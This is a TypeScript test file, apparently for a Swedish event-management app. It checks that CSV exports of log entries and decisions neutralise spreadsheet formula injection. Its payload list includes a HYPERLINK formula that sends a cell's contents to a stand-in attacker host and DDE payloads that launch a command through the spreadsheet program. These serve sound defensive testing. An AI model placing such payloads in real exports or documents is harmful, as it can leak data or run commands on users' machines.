// Formula injection: text that a spreadsheet would run as a formula (a cell starting with =, +,
// -, @, tab or carriage return) is written through the API and downloaded as CSV; every such
// cell must start with an apostrophe followed by the stored text, and every other cell must be
// the stored text unchanged.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { type Client, type TestApp, demoPeople, startTestApp } from '../support/app.ts';
import { testDialects } from '../support/databases.ts';
import { allPayloads, inBatches, trimmedOrRejected } from './support.ts';

const formulaPayloads = [
  '=1+2',
  '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka här")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUMMA(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  '\r\n=1+2',
  ' =1+2',
  '=',
  '+',
  '-',
  '@',
  '-5',
  '"=1+2"',
  "'=1+2",
  'Mötet börjar =kl. 10',
];

const payloads = [...formulaPayloads, ...allPayloads()];

function expectedCell(stored: string): string {
  return /^[=+\-@\t\r]/.test(stored) ? `'${stored}` : stored;
}

function rowsOf(body: Buffer): Map<string, string[]> {
  const rows = parse(body, { bom: true, delimiter: ';' }) as string[][];
  return new Map(rows.slice(1).map((row) => [row[0]!, row]));
}

for (const dialect of testDialects()) {
  describe(`CSV formula injection on ${dialect}`, () => {
    let t: TestApp;
    let staff: Client;

    before(async () => {
      t = await startTestApp(dialect);
      staff = await t.login(demoPeople.staff);
    });
    after(() => t.close());

    it('neutralises formula-like log text and sources and keeps all other text', async () => {
      const stored = new Map<string, { text: string; source: string }>();
      await inBatches(payloads, 10, async (payload) => {
        if (trimmedOrRejected(payload) === null) return;
        const response = await staff.post(`/api/events/${t.eventId}/log`, {
          occurredAt: '2024-12-20T08:00:00Z',
          text: payload,
          source: payload.slice(0, 300),
        });
        assert.equal(response.statusCode, 201, `${JSON.stringify(payload)}: ${response.body}`);
        const entry = response.json() as { id: number; text: string; source: string };
        stored.set(String(entry.id), entry);
      });
      const response = await staff.get(
        `/api/events/${t.eventId}/log.csv?from=2024-12-20T08:00:00Z&to=2024-12-20T08:00:01Z`,
      );
      assert.equal(response.statusCode, 200);
      const rows = rowsOf(response.rawPayload);
      assert.deepEqual([...rows.keys()].sort(), [...stored.keys()].sort());
      let neutralised = 0;
      for (const [id, entry] of stored) {
        const [, , text, source] = rows.get(id)!;
        assert.equal(text, expectedCell(entry.text), JSON.stringify(entry.text));
        assert.equal(source, expectedCell(entry.source), JSON.stringify(entry.source));
        if (text !== entry.text) neutralised += 1;
      }
      assert.ok(neutralised >= 10, `${neutralised} neutralised cells`);
    });

    it('neutralises untrimmed text that starts with a tab or carriage return', async () => {
      const forum = 'Formeltest i regional ledning';
      const stored = new Map<string, { mandate: string; rationale: string }>();
      await inBatches(payloads, 10, async (payload) => {
        const response = await staff.post(`/api/events/${t.eventId}/decisions`, {
          decidedAt: '2024-12-20T09:00:00Z',
          forum,
          text: 'Beslut med fritext från formeltestet.',
          mandate: payload.slice(0, 5_000),
          rationale: payload,
        });
        assert.equal(response.statusCode, 201, `${JSON.stringify(payload)}: ${response.body}`);
        const decision = response.json() as { id: number; mandate: string; rationale: string };
        stored.set(String(decision.id), decision);
      });
      const response = await staff.get(
        `/api/events/${t.eventId}/decisions.csv?forum=${encodeURIComponent(forum)}`,
      );
      const rows = rowsOf(response.rawPayload);
      assert.equal(rows.size, stored.size);
      for (const [id, decision] of stored) {
        const [, , , mandate, , rationale] = rows.get(id)!;
        assert.equal(mandate, expectedCell(decision.mandate), JSON.stringify(decision.mandate));
        assert.equal(rationale, expectedCell(decision.rationale));
      }
      const tabbed = [...stored].find(([, decision]) => decision.rationale === '\t=1+2')!;
      assert.equal(rows.get(tabbed[0])![5], "'\t=1+2");
      const returned = [...stored].find(([, decision]) => decision.rationale === '\r=1+2')!;
      assert.equal(rows.get(returned[0])![5], "'\r=1+2");
    });
  });
}
